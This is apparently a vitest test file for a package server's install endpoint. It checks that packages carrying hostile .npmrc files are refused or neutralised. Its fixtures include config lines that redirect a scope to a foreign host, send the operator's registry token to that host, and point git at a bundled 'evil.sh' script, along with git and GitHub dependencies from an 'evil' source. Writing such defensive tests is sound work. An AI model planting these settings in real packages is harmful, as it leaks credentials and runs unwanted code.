import { once } from "node:events";
import { access } from "node:fs/promises";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { expect, test } from "vitest";
import { openScriptedRegistry } from "./open-scripted-registry.ts";
import { makeDataDirectory, openTestServer } from "./open-test-server.ts";
import { type TarEntry, tarArchive } from "./tar-archive.ts";

/** A host that is not the operator's, with what it heard. */
async function openForeignHost() {
  const heard: string[] = [];
  const server = createServer(({ url, headers }, response) => {
    heard.push(`${url} ${headers.authorization}`);
    response.writeHead(404).end("{}");
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  return {
    host: `127.0.0.1:${(server.address() as AddressInfo).port}`,
    heard,
    async [Symbol.asyncDispose]() {
      server.close();
      server.closeAllConnections();
      await once(server, "close");
    },
  };
}

/** A server that installs from a registry which asks for the operator's token, and that registry. */
async function openServer() {
  const registry = await openScriptedRegistry();
  const server = await openTestServer({ registry: registry.url, registryToken: "operator-token" });
  return {
    registry,
    dataDirectory: server.dataDirectory,
    serve(name: string, dependencies: Record<string, string>, files: TarEntry[] = []) {
      const entries = [
        { name: "package/package.json", body: JSON.stringify({ name, version: "1.0.0", dependencies }) },
        { name: "package/package.oo.yaml", body: `name: ${name}\nversion: 1.0.0\n` },
      ];
      registry.serve(name, gzipSync(tarArchive([...entries, ...files])));
    },
    async install(name: string) {
      const { taskId } = await server.getJson<{ taskId: string }>("/packages/install", {
        method: "POST",
        headers: { "Content-Type": "application/json" },
        body: JSON.stringify({ name, version: "1.0.0" }),
      });
      const path = `/packages/install/${taskId}`;
      return (await server.getJson<{ task: object }>(path, { headers: { Prefer: "wait=60" } })).task;
    },
    async [Symbol.asyncDispose]() {
      await server[Symbol.asyncDispose]();
      await registry[Symbol.asyncDispose]();
    },
  };
}

const failed = (reason: RegExp) => ({ status: "failed", error: expect.stringMatching(reason) });

test.each(["package/.npmrc", "package/.npmrc/.npmrc"])("obeys and keeps no %s", async (settings) => {
  await using foreign = await openForeignHost();
  await using server = await openServer();
  await using outside = await makeDataDirectory();
  const sign = join(outside.path, "program-ran");
  const hostile = [
    `git=./evil.sh\n@evil:registry=http://${foreign.host}/`,
    `//${foreign.host}/:_authToken=\${OOMOL_CONNECT_REGISTRY_TOKEN}\n`,
  ].join("\n");
  const files = [
    { name: settings, body: hostile },
    { name: "package/evil.sh", mode: 0o755, body: `#!/bin/sh\ntouch ${sign}\nexit 1\n` },
  ];
  server.serve("scope", { "@evil/inner": "1.0.0" }, files);
  server.serve("git", { inner: `git+http://${foreign.host}/inner.git` }, files);
  server.serve("harmless", {}, files);

  // The scope is looked for where the operator said, and is not there.
  const { host } = new URL(server.registry.url);
  expect.soft(await server.install("scope")).toMatchObject(failed(new RegExp(`404 .*${host}`, "s")));
  expect.soft(await server.install("git")).toMatchObject(failed(/it depends on inner from "git\+http/));
  expect.soft(await server.install("harmless")).toMatchObject({ status: "success" });
  expect.soft(foreign.heard).toEqual([]);
  await expect.soft(access(sign)).rejects.toThrow("ENOENT");
  const kept = join(server.dataDirectory, "packages/harmless-1.0.0/.npmrc");
  await expect(access(kept)).rejects.toThrow("ENOENT");
});

test("asks no host of git repositories for a dependency", async () => {
  await using server = await openServer();
  server.serve("hosted", { inner: `github:evil/inner#${"a".repeat(40)}` });
  expect(await server.install("hosted")).toMatchObject(failed(/only packages of the registry are installed/));
});
